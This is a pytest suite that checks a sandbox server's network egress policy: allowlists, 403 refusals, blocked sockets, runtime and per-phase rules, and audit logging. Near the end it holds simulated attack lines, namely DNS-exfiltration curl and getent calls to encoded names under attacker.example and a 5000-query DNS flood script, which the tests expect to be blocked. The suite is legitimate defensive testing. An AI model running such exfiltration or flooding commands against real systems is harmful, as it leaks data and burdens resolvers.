"""Egress policy against a live `sandboxer serve --resolve …`: an allowlisted name reaches a loopback
upstream through the proxy (explicit, CONNECT and for clients that ignore the proxy variables),
everything else is refused with a reason and never contacted, the policy changes at runtime and
per phase. Upstreams are on 127.0.0.1 only, reached through operator-mapped names."""
import json
import subprocess
import time

import httpx
import pytest

from conftest import BIN, TIMEOUT, auth, drop_server, own_server, submit_run, wait_run
from egress_upstream import Upstream

NAMES = ["pypi.test", "denied.test", "other.test"]


@pytest.fixture(scope="module")
def env():
    allowed, denied = Upstream(), Upstream()
    args = []
    for n in NAMES:
        args += ["--resolve", f"{n}=127.0.0.1"]
    server, key = own_server("sbx-egress-", "egress", args=args)
    c = httpx.Client(base_url=server.url, headers=auth(key), timeout=TIMEOUT)
    yield {"client": c, "a": allowed, "b": denied, "server": server}
    c.close()
    drop_server(server)
    allowed.close()
    denied.close()


def profile(env, mode="allowlist", allow=None, **extra):
    allow = [f"pypi.test:{env['a'].port}"] if allow is None else allow
    net = {"mode": mode, "allow": allow} if mode == "allowlist" else {"mode": mode}
    return {"name": "egress-test", "network": net, **extra}


def make(env, **prof):
    r = env["client"].post("/v1/sandboxes", json={"profile": profile(env, **prof)})
    assert r.status_code == 201, r.text
    return r.json()["id"]


def sh(env, sid, script, timeout=None):
    body = {"cmd": ["sh", "-c", script]}
    if timeout:
        body["timeout"] = timeout
    r = env["client"].post(f"/v1/sandboxes/{sid}/exec", json=body)
    assert r.status_code == 200, r.text
    return r.json()


def test_allowlisted_name_is_reached_through_the_proxy(env):
    sid = make(env)
    before = env["a"].connections
    out = sh(env, sid, f"curl -sS -m 10 http://pypi.test:{env['a'].port}/hello")
    assert out["exit_code"] == 0, out
    assert json.loads(out["stdout"])["path"] == "/hello"
    assert env["a"].connections == before + 1
    env["client"].delete(f"/v1/sandboxes/{sid}")


def test_a_denied_host_gets_403_naming_host_rule_and_profile_and_is_never_contacted(env):
    sid = make(env)
    port = env["b"].port
    out = sh(env, sid, f"curl -sS -m 10 -w '\\n%{{http_code}}' http://denied.test:{port}/x")
    body, status = out["stdout"].rsplit("\n", 1)
    assert status == "403"
    assert f"denied.test:{port}" in body and "profile 'egress-test'" in body and f"pypi.test:{env['a'].port}" in body
    # CONNECT to a denied host: 403 too.
    out = sh(env, sid, f"curl -sS -m 10 -p http://denied.test:{port}/x")
    assert out["exit_code"] != 0 and "403" in out["stderr"], out
    assert env["b"].connections == 0
    env["client"].delete(f"/v1/sandboxes/{sid}")


def test_connect_tunnels_and_clients_that_ignore_the_proxy(env):
    sid = make(env)
    a = env["a"].port
    out = sh(env, sid, f"curl -sS -m 10 -p http://pypi.test:{a}/tunnel")
    assert out["exit_code"] == 0 and json.loads(out["stdout"])["path"] == "/tunnel", out
    # No proxy variables: the resolver answers the allowed name, the transparent listener routes by Host.
    out = sh(env, sid, f"env -u HTTP_PROXY -u http_proxy curl -sS -m 10 http://pypi.test:{a}/direct")
    assert out["exit_code"] == 0 and json.loads(out["stdout"])["path"] == "/direct", out
    out = sh(env, sid, "getent hosts pypi.test; getent hosts denied.test; echo rc=$?")
    assert "127.0.0.2" in out["stdout"] and "rc=2" in out["stdout"], out
    env["client"].delete(f"/v1/sandboxes/{sid}")


def test_no_route_out_and_no_vsock_packet_or_raw_sockets(env):
    sid = make(env)
    script = r"""
python3 - <<'PY'
import socket
for name, fam, typ in [("vsock", socket.AF_VSOCK, socket.SOCK_STREAM), ("packet", socket.AF_PACKET, socket.SOCK_RAW),
                       ("raw", socket.AF_INET, socket.SOCK_RAW)]:
    try:
        socket.socket(fam, typ)
        print(name, "OPEN")
    except OSError as e:
        print(name, "blocked", e.errno)
PY
tail -n +2 /proc/net/route | wc -l
"""
    out = sh(env, sid, script)
    lines = out["stdout"].split("\n")
    assert all("blocked" in l for l in lines[:3]), out
    assert lines[3].strip() == "0", "the sandbox must have no route: " + out["stdout"]
    env["client"].delete(f"/v1/sandboxes/{sid}")


def test_always_blocked_ranges_need_the_operators_map(env):
    # Allowlisted by address but not mapped by the operator: refused before any connection.
    sid = make(env, allow=["127.0.0.1", "169.254.169.254", "10.0.0.0/8"])
    for target in [f"127.0.0.1:{env['b'].port}", "169.254.169.254:80", "10.1.2.3:80"]:
        out = sh(env, sid, f"curl -sS -m 10 --noproxy '' -x http://127.0.0.1:3128 http://{target}/")
        assert "always-blocked range" in out["stdout"] and "serve --resolve" in out["stdout"], out
    assert env["b"].connections == 0
    env["client"].delete(f"/v1/sandboxes/{sid}")


def test_allowlist_changes_at_runtime_and_open_connections_to_a_removed_host_close(env):
    c = env["client"]
    sid = make(env)
    a = env["a"].port
    r = c.post(f"/v1/sandboxes/{sid}/processes", json={"cmd": ["sh", "-c", f"curl -sS -m 120 -o /dev/null http://pypi.test:{a}/slow; echo curl=$? > /tmp/slow.done"]})
    assert r.status_code in (200, 201), r.text
    deadline = time.time() + 30
    while time.time() < deadline and not any(p.startswith("/slow") for p, _ in env["a"].requests):
        time.sleep(0.1)
    r = c.patch(f"/v1/sandboxes/{sid}/network", json={"remove": [f"pypi.test:{a}"]})
    assert r.status_code == 200 and r.json()["allow"] == [], r.text
    deadline = time.time() + 30
    done = ""
    while time.time() < deadline:
        done = sh(env, sid, "cat /tmp/slow.done 2>/dev/null")["stdout"]
        if done:
            break
        time.sleep(0.2)
    assert done.startswith("curl=") and done.strip() != "curl=0", "the download must end when its host is removed: " + done
    out = sh(env, sid, f"curl -sS -m 10 -w '\\n%{{http_code}}' http://pypi.test:{a}/again")
    assert out["stdout"].endswith("403"), out
    r = c.patch(f"/v1/sandboxes/{sid}/network", json={"add": [f"pypi.test:{a}"]})
    assert r.status_code == 200
    assert sh(env, sid, f"curl -sS -m 10 http://pypi.test:{a}/back")["exit_code"] == 0
    r = c.patch(f"/v1/sandboxes/{sid}/network", json={"add": ["not a host!"]})
    assert r.status_code == 400 and r.json()["field"] == "allow[1]" and "not a host!" in r.json()["detail"], r.text
    # The CLI does the same.
    cli = subprocess.run([BIN, "network", "deny", sid, f"pypi.test:{a}", "--server", env["server"].url,
                          "--api-key", c.headers["authorization"].split()[-1]], capture_output=True, text=True)
    assert cli.returncode == 0 and "network allowlist" in cli.stdout, cli.stderr
    c.delete(f"/v1/sandboxes/{sid}")


def test_a_sandbox_without_network_has_no_proxy_to_change(env):
    c = env["client"]
    r = c.post("/v1/sandboxes", json={"profile": "default"})
    sid = r.json()["id"]
    r = c.patch(f"/v1/sandboxes/{sid}/network", json={"add": ["pypi.test"]})
    assert r.status_code == 409 and "created without a network" in r.json()["detail"], r.text
    c.delete(f"/v1/sandboxes/{sid}")


def test_open_mode_is_the_operators_choice(env):
    r = env["client"].post("/v1/sandboxes", json={"profile": profile(env, mode="open")})
    assert r.status_code == 400 and "--allow-open-network" in r.json()["detail"], r.text


def test_setup_phase_installs_from_a_package_index_and_the_run_phase_is_offline(env):
    a = env["a"].port
    prof = profile(env, mode="deny", phases={"setup": {"network": {"mode": "allowlist", "allow": [f"pypi.test:{a}"]}}})
    setup = (f"python3 -m pip install --no-cache-dir --disable-pip-version-check --target /workspace/lib "
             f"--index-url http://pypi.test:{a}/simple/ --trusted-host pypi.test tinypkg")
    script = (f"python3 -c 'import sys; sys.path.insert(0, \"/workspace/lib\"); import tinypkg; print(\"value\", tinypkg.VALUE)'; "
              f"curl -sS -m 10 -w '\\n%{{http_code}}' http://pypi.test:{a}/simple/tinypkg/; "
              f"python3 -m pip download --no-cache-dir -d /tmp/x --index-url http://pypi.test:{a}/simple/ --trusted-host pypi.test "
              f"--retries 0 --timeout 5 tinypkg >/dev/null 2>&1; echo pip=$?")
    run = submit_run(env["client"], profile=prof, setup=setup, cmd=["sh", "-c", script])
    done = wait_run(env["client"], run["id"], timeout=120)
    assert done["state"] == "succeeded", done
    out = done["result"]["stdout"]
    assert "value 42" in out
    assert "profile 'egress-test' has network mode deny" in out and "\n403" in out
    assert "pip=0" not in out
    assert any(p.startswith("/files/tinypkg") for p, _ in env["a"].requests)


def test_the_cli_runs_a_setup_phase_online_and_the_code_offline(tmp_path, env):
    a = env["a"].port
    prof = tmp_path / "p.yaml"
    prof.write_text(f"name: cli-phases\nnetwork: {{mode: deny}}\nphases:\n  setup:\n    network: {{mode: allowlist, allow: ['pypi.test:{a}']}}\n")
    r = subprocess.run([BIN, "run", "--profile", str(prof), "--resolve", f"pypi.test=127.0.0.1",
                        "--setup", f"curl -sS -m 10 http://pypi.test:{a}/fetched > /workspace/got", "--",
                        "sh", "-c", f"cat /workspace/got; curl -sS -m 10 http://pypi.test:{a}/again"],
                       capture_output=True, text=True, timeout=120)
    assert '"path": "/fetched"' in r.stdout, r.stdout + r.stderr
    assert "has network mode deny" in r.stdout


def test_bad_resolve_entries_stop_the_server_at_start(tmp_path):
    r = subprocess.run([BIN, "serve", "--data", str(tmp_path), "--port", "0", "--resolve", "pypi.test=not-an-address"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode != 0 and "pypi.test=not-an-address" in r.stderr, r.stderr


def test_every_decision_and_policy_change_is_in_the_sandbox_audit_trail(env):
    c = env["client"]
    sid = make(env)
    a, b = env["a"].port, env["b"].port
    sh(env, sid, f"curl -sS -m 10 http://pypi.test:{a}/audited; curl -sS -m 10 http://denied.test:{b}/x; getent hosts nowhere.test")
    c.patch(f"/v1/sandboxes/{sid}/network", json={"add": ["other.test"]})
    lines = [json.loads(l) for l in c.get(f"/v1/sandboxes/{sid}/audit").text.splitlines() if l.strip()]
    kinds = [e["kind"] for e in lines]
    assert [e["seq"] for e in lines] == sorted(e["seq"] for e in lines)
    allow = next(e for e in lines if e["kind"] == "egress.allow")
    assert allow["detail"]["host"] == "pypi.test" and allow["detail"]["port"] == a and allow["detail"]["bytes_in"] > 0
    assert "duration_ms" in allow["detail"] and allow["actor"] == "sandbox"
    denies = [e["detail"] for e in lines if e["kind"] == "egress.deny"]
    assert any(d["host"] == "denied.test" and "no rule" in d["reason"] for d in denies)
    assert any(d["host"] == "nowhere.test" and d["via"] == "dns" for d in denies)
    change = next(e for e in lines if e["kind"] == "network.change")
    assert "other.test" in change["detail"]["allow"]
    assert kinds.index("exec.start") < kinds.index("egress.allow") < kinds.index("network.change")
    c.delete(f"/v1/sandboxes/{sid}")


def test_the_proxy_outlives_health_checks_and_a_server_restart(env):
    # The server's health check (every 5 s) adopts live sandboxes: it must not take the proxy from
    # under one it serves; after kill -9 and a restart the new process serves the sandbox again.
    c = env["client"]
    sid = make(env)
    a = env["a"].port
    time.sleep(6)
    assert c.get(f"/v1/sandboxes/{sid}").json()["state"] == "running"
    assert sh(env, sid, f"curl -sS -m 10 http://pypi.test:{a}/after-health-check")["exit_code"] == 0
    server = env["server"]
    server.kill9()
    server.start()
    assert c.get(f"/v1/sandboxes/{sid}").json()["state"] == "running"
    out = sh(env, sid, f"curl -sS -m 10 http://pypi.test:{a}/after-restart; curl -sS -m 10 -w ' %{{http_code}}' http://denied.test:{env['b'].port}/")
    assert '"path": "/after-restart"' in out["stdout"] and out["stdout"].endswith(" 403"), out
    c.delete(f"/v1/sandboxes/{sid}")


def test_a_queued_runs_egress_is_in_its_audit_trail(env):
    a = env["a"].port
    run = submit_run(env["client"], profile=profile(env), cmd=["sh", "-c", f"curl -sS -m 10 http://pypi.test:{a}/from-a-run; curl -sS -m 10 http://denied.test:{a}/"])
    done = wait_run(env["client"], run["id"], timeout=120)
    assert done["state"] == "succeeded", done
    r = env["client"].get(f"/v1/runs/{run['id']}/audit")
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/x-ndjson")
    events = [json.loads(l) for l in r.text.splitlines() if l.strip()]
    assert {e["sandbox_id"] for e in events} == {done["attempts"][0]["sandbox_id"]}
    assert [e["kind"] for e in events] == ["egress.allow", "egress.deny"]
    assert events[0]["detail"]["host"] == "pypi.test" and events[1]["detail"]["host"] == "denied.test"


def test_the_wasm_backends_http_get_obeys_the_same_policy_and_is_audited(env):
    c = env["client"]
    a = env["a"].port
    prof = {"name": "wasm-web", "isolation": "wasm", "tools": ["http.get"], "network": {"mode": "allowlist", "allow": [f"pypi.test:{a}"]}}
    r = c.post("/v1/sandboxes", json={"profile": prof})
    assert r.status_code == 201, r.text
    sid = r.json()["id"]
    code = f"""
const ok = tools.call("http.get", {{url: "http://pypi.test:{a}/from-wasm"}});
console.log("status " + ok.status);
try {{ tools.call("http.get", {{url: "http://denied.test:{a}/"}}); }} catch (e) {{ console.log("DENIED " + e.message); }}
"""
    r = c.post(f"/v1/sandboxes/{sid}/exec", json={"code": code, "lang": "js"})
    assert r.status_code == 200, r.text
    out = r.json()["stdout"]
    assert "status 200" in out and "DENIED http.get: denied.test" in out and "no rule of profile" in out, r.text
    events = [json.loads(l) for l in c.get(f"/v1/sandboxes/{sid}/audit").text.splitlines() if l.strip()]
    egress = [(e["kind"], e["detail"]["host"], e["detail"]["via"]) for e in events if e["kind"].startswith("egress.")]
    assert egress == [("egress.allow", "pypi.test", "http.get"), ("egress.deny", "denied.test", "http.get")], events
    c.delete(f"/v1/sandboxes/{sid}")


def test_a_failing_setup_command_fails_the_create_with_422_and_leaves_nothing(env):
    r = env["client"].post("/v1/sandboxes", json={"profile": profile(env), "setup": "echo broken >&2; exit 3"})
    assert r.status_code == 422 and r.json()["code"] == "setup_command_failed", r.text
    assert "exit 3" in r.json()["detail"] and "broken" in r.json()["detail"]
    live = env["client"].get("/v1/sandboxes", params={"state": "running"}).json()["items"]
    assert not [s for s in live if s["profile"] == "egress-test"], live


def test_a_name_only_a_cidr_rule_could_allow_is_denied_before_any_lookup(env):
    # DNS exfiltration: looking `<data>.attacker.example` up would carry the data to the host's
    # resolver and beyond. Without the operator's --resolve-for-cidr-rules the proxy refuses the
    # name before a lookup, by every path: absolute-form, CONNECT, and the sandbox's resolver.
    sid = make(env, allow=["203.0.113.0/24"])
    out = sh(env, sid, "curl -sS -m 10 -w '\\n%{http_code}' http://c2VjcmV0.attacker.example/")
    body, status = out["stdout"].rsplit("\n", 1)
    assert status == "403", out
    assert "--resolve-for-cidr-rules" in body, body
    out = sh(env, sid, "curl -sS -m 10 -p https://c2VjcmV0Mg.attacker.example/")
    assert out["exit_code"] != 0 and "403" in out["stderr"], out
    out = sh(env, sid, "getent hosts c2VjcmV0Mw.attacker.example; echo rc=$?")
    assert "rc=2" in out["stdout"], out  # NXDOMAIN from the sandbox's own resolver
    env["client"].delete(f"/v1/sandboxes/{sid}")


FLOOD = r"""
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
def query(i, name):
    q = struct.pack(">HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)
answered = 0
for i in range(5000):
    s.sendto(query(i, ("same" if i % 2 else "u%d" % i) + ".attacker.example"), ("127.0.0.1", 53))
    try:
        s.recvfrom(512)
        answered += 1
    except socket.timeout:
        pass
print(answered)
"""


def test_a_dns_flood_leaves_a_short_audit_trail_that_counts_it(env):
    # Before: every denied query was a row (12 s of queries: 258,392 rows). Now repeats are
    # coalesced, the rest is rate-limited and counted in audit.rate_limited.
    sid = make(env)
    out = sh(env, sid, f"python3 - <<'PY'\n{FLOOD}\nPY")
    assert out["exit_code"] == 0, out
    answered = int(out["stdout"].strip())
    env["client"].delete(f"/v1/sandboxes/{sid}")
    r = env["client"].get(f"/v1/sandboxes/{sid}/audit", params={"limit": 10000})
    assert r.status_code == 200, r.text
    entries = [json.loads(line) for line in r.text.splitlines() if line]
    assert len(entries) < 600, len(entries)
    kinds = [e["kind"] for e in entries]
    assert "audit.rate_limited" in kinds, kinds[-10:]
    dns = [e for e in entries if e["kind"] == "egress.deny" and e["detail"].get("via") == "dns"]
    own = sum(1 for e in dns if "count" not in e["detail"])
    coalesced = sum(e["detail"]["count"] for e in dns if "count" in e["detail"])
    dropped = sum(e["detail"]["dropped"] for e in entries if e["kind"] == "audit.rate_limited")
    assert own + coalesced + dropped == answered, (own, coalesced, dropped, answered)
    assert kinds[-1] == "sandbox.delete"
